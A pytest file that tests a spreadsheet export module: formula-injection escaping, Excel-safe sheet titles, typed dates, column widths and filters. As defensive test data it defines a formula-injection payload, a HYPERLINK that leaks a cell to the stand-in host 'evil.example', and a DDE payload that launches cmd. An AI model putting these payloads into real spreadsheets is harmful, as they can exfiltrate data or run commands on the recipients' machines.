"""advocates/spreadsheets.py: formula-safe cells, Excel-valid sheet names and a workbook that
opens with typed dates, widths, a frozen header and a filter."""

from __future__ import annotations

import io
from datetime import UTC, date, datetime

import pytest
from openpyxl import load_workbook

from advocates.spreadsheets import (
    DATETIME_FORMAT,
    SHEET_TITLE_MAX,
    Sheet,
    cell_neutralise,
    sheet_title,
    xlsx_bytes,
)

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your reward")'
DDE = "=cmd|' /C calc'!A0"


@pytest.mark.parametrize("value", [HYPERLINK, DDE, "+1+1", "-2+3", "@SUM(A1:A9)",
                                   "\t=1+1", "\r=1+1"])
def test_formula_like_text_gets_a_leading_apostrophe(value):
    assert cell_neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["Loving it", "", "'already text", "100% =)", -5, 3.5,
                                   None, True, date(2026, 11, 1)])
def test_anything_else_is_left_alone(value):
    assert cell_neutralise(value) == value


@pytest.mark.parametrize(("title", "expected"), [
    ("Totals per currency", "Totals per currency"),
    # Cut at a word, never inside one, and not on a joining word.
    ("Average order value with and without a code", "Average order value"),
    ("Maximum exposure by month of expiry", "Maximum exposure by month"),
    # A bracket the limit would leave open is dropped with its words.
    ("Top advocates (by confirmed advocacy events)", "Top advocates"),
    ("Points outstanding (unexpired) by month of expiry", "Points outstanding (unexpired)"),
    # Characters Excel refuses in a sheet name.
    ("Outbound balance (sent): replies / conversations", "Outbound balance (sent) replies"),
    ("[Q4] a*b?", "Q4 a b"),
    # One word longer than the limit can only be cut.
    ("Supercalifragilisticexpialidocious", "Supercalifragilisticexpialidoci"),
    ("", "Sheet"),
])
def test_sheet_titles_fit_excel_and_end_on_a_word(title, expected):
    assert sheet_title(title) == expected
    assert len(sheet_title(title)) <= SHEET_TITLE_MAX


def test_sheet_titles_are_unique_in_a_workbook():
    taken = ["Totals per currency", "Average order value"]
    assert sheet_title("totals per currency", taken=taken) == "totals per currency (2)"
    assert sheet_title("Average order value with and without a code",
                       taken=taken) == "Average order value (2)"


def test_the_workbook_opens_typed_sized_frozen_and_filtered():
    posted = datetime(2026, 11, 3, 19, 30, tzinfo=UTC)
    data = xlsx_bytes([Sheet(
        title="Mentions with a very long descriptive name",
        headings=["text", "posted_at", "day", "count", "=heading"],
        rows=[[HYPERLINK, posted, date(2026, 11, 3), 7, None],
              [DDE, None, None, -2, "ありがとうございます、また来ます"]])])
    sheet = load_workbook(io.BytesIO(data))["Mentions with a very long"]
    rows = list(sheet.iter_rows(values_only=True))
    # A column of aware times is written in UTC, and its heading says so.
    assert rows[0] == ("text", "posted_at (UTC)", "day", "count", "'=heading")
    assert rows[1][0] == "'" + HYPERLINK
    assert rows[2][0] == "'" + DDE
    assert rows[2][3] == -2  # a number, not neutralised text
    # Dates are dates (Excel has no time zones: UTC, naive), with a format.
    assert rows[1][1] == posted.replace(tzinfo=None)
    assert sheet["B2"].is_date
    assert sheet["B2"].number_format == DATETIME_FORMAT
    assert sheet["C2"].is_date
    assert sheet["C2"].number_format == "yyyy-mm-dd"
    assert sheet["A2"].data_type == "s"  # never a formula
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:E3"
    assert sheet["A1"].font.bold
    widths = {c: sheet.column_dimensions[c].width for c in "ABCDE"}
    assert widths["A"] == 60  # the long formula text, capped
    assert widths["B"] == 21  # a datetime
    assert widths["D"] == 7  # a short number: at least the heading
    assert widths["E"] == 34  # 16 wide Japanese characters count two each


def test_an_empty_list_still_makes_a_workbook_with_its_headings():
    data = xlsx_bytes([Sheet(title="Redemptions", headings=["id", "code"], rows=[])])
    sheet = load_workbook(io.BytesIO(data))["Redemptions"]
    assert list(sheet.iter_rows(values_only=True)) == [("id", "code")]
    assert sheet.auto_filter.ref == "A1:B1"
